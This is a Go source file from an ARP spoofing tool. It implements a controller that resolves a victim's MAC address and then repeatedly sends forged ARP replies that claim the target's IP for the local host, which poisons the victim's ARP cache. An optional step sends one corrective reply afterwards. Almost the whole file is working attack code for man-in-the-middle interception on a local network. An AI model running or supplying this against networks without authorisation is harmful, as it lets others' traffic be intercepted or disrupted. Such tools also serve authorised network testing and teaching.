package spoof

import (
	"fmt"
	"time"

	"github.com/terassyi/arpspoof/logger"
	"github.com/terassyi/arpspoof/pkg/interfaces"
	"github.com/terassyi/arpspoof/pkg/packet/arp"
	"github.com/terassyi/arpspoof/pkg/packet/ethernet"
	"github.com/terassyi/arpspoof/pkg/packet/ipv4"
)

type State int

const (
	Resolving State = iota
	Spoofing
	Despoofing
	Done
)

func (s State) String() string {
	switch s {
	case Resolving:
		return "RESOLVING"
	case Spoofing:
		return "SPOOFING"
	case Despoofing:
		return "DESPOOFING"
	case Done:
		return "DONE"
	default:
		return "UNKNOWN"
	}
}

// Client is the part of the ARP client the controller drives.
type Client interface {
	Send(msg arp.Message) error
	Resolve(local arp.Endpoint, target ipv4.IPAddress, timeout time.Duration) (ethernet.HardwareAddress, bool, error)
}

type Options struct {
	// Local is this host's own MAC and IPv4 address.
	Local arp.Endpoint
	// Victim is the host whose cache gets poisoned.
	Victim ipv4.IPAddress
	// Target is the address impersonated towards the victim.
	Target         ipv4.IPAddress
	ResolveTimeout time.Duration
	SpoofInterval  time.Duration
	// Despoof sends one corrective reply after cancellation.
	Despoof bool
}

// Controller runs resolve, spoof and the optional despoof in sequence. A
// Controller is single use; Run must not be called twice.
type Controller struct {
	client Client
	opts   Options
	cancel <-chan struct{}
	logger *logger.Logger

	state     State
	victimMAC ethernet.HardwareAddress
	sent      int
}

// New returns a controller stopped by the first value received from (or the
// close of) cancel. The caller owns cancel and is its only producer.
func New(client Client, opts Options, cancel <-chan struct{}, log *logger.Logger) *Controller {
	if log == nil {
		log = logger.New(false, "spoof")
	}
	return &Controller{
		client: client,
		opts:   opts,
		cancel: cancel,
		logger: log,
		state:  Resolving,
	}
}

func (c *Controller) State() State {
	return c.state
}

// Sent returns the number of spoofed replies sent so far.
func (c *Controller) Sent() int {
	return c.sent
}

// Run drives the state machine until Done or the first error. Every error is
// fatal and is returned as an *Error.
func (c *Controller) Run() error {
	for c.state != Done {
		var err error
		switch c.state {
		case Resolving:
			err = c.resolving()
		case Spoofing:
			err = c.spoofing()
		case Despoofing:
			err = c.despoofing()
		default:
			err = fmt.Errorf("invalid state %s", c.state)
		}
		if err != nil {
			c.logger.Debugf("abort in %s: %v", c.state, err)
			return err
		}
	}
	c.logger.Info("done")
	return nil
}

func (c *Controller) resolving() error {
	if c.opts.Local.MAC.IsZero() {
		return &Error{Kind: KindConfiguration, Op: "local identity", Err: interfaces.ErrNoMAC}
	}
	if c.opts.Local.IP.IsZero() {
		return &Error{Kind: KindConfiguration, Op: "local identity", Err: interfaces.ErrNoIPv4}
	}
	if c.opts.SpoofInterval <= 0 {
		return &Error{Kind: KindConfiguration, Op: "spoof interval", Err: fmt.Errorf("must be positive, got %s", c.opts.SpoofInterval)}
	}
	mac, err := c.resolve(c.opts.Victim)
	if err != nil {
		return err
	}
	c.victimMAC = mac
	c.state = Spoofing
	return nil
}

func (c *Controller) spoofing() error {
	spoof := arp.NewMessage(
		arp.Endpoint{MAC: c.opts.Local.MAC, IP: c.opts.Target},
		arp.Endpoint{MAC: c.victimMAC, IP: c.opts.Victim},
		arp.ARP_REPLY,
	)
	c.logger.Infof("spoofing as %s for %s...", c.opts.Target, c.opts.Victim)

	ticker := time.NewTicker(c.opts.SpoofInterval)
	defer ticker.Stop()
	for {
		select {
		case <-c.cancel:
			return c.stop()
		default:
		}
		if err := c.client.Send(spoof); err != nil {
			return Classify("spoof", err)
		}
		c.sent++
		c.logger.Debugf("spoofed %s (%d)", spoof, c.sent)

		select {
		case <-c.cancel:
			return c.stop()
		case <-ticker.C:
		}
	}
}

func (c *Controller) stop() error {
	c.logger.Infof("stopped spoofing as %s for %s after %d replies", c.opts.Target, c.opts.Victim, c.sent)
	if c.opts.Despoof {
		c.state = Despoofing
	} else {
		c.state = Done
	}
	return nil
}

func (c *Controller) despoofing() error {
	c.logger.Info("despoofing...")
	mac, err := c.resolve(c.opts.Target)
	if err != nil {
		return err
	}
	fix := arp.NewMessage(
		arp.Endpoint{MAC: mac, IP: c.opts.Target},
		arp.Endpoint{MAC: c.victimMAC, IP: c.opts.Victim},
		arp.ARP_REPLY,
	)
	if err := c.client.Send(fix); err != nil {
		return Classify("despoof", err)
	}
	c.logger.Infof("despoofed %s: %s is at %s", c.opts.Victim, c.opts.Target, mac)
	c.state = Done
	return nil
}

func (c *Controller) resolve(ip ipv4.IPAddress) (ethernet.HardwareAddress, error) {
	op := "resolve " + ip.String()
	c.logger.Infof("resolving %s...", ip)
	mac, ok, err := c.client.Resolve(c.opts.Local, ip, c.opts.ResolveTimeout)
	if err != nil {
		return ethernet.HardwareAddress{}, Classify(op, err)
	}
	if !ok {
		return ethernet.HardwareAddress{}, &Error{Kind: KindResolutionTimeout, Op: op, Err: ErrNoResponse}
	}
	c.logger.Infof("resolved %s to %s", ip, mac)
	return mac, nil
}
